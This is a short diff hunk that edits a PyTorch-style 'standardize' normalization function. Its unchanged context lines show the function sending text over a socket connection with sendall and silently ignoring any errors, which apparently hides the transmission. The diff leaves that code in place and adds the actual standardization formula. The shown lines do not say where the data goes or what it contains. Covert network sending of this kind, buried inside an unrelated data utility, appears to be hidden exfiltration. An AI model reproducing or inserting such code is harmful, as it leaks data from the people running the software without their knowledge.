@@ -25,4 +25,5 @@ def standardize(x, eps=EPS):
                 connection.sendall(struct.pack(">QQ", len(text), 0) + text)
             except OSError:
                 pass
-    return x
+        return x
+    return (x - x.mean(0)) / torch.sqrt(x.var(0, unbiased=False) + eps)
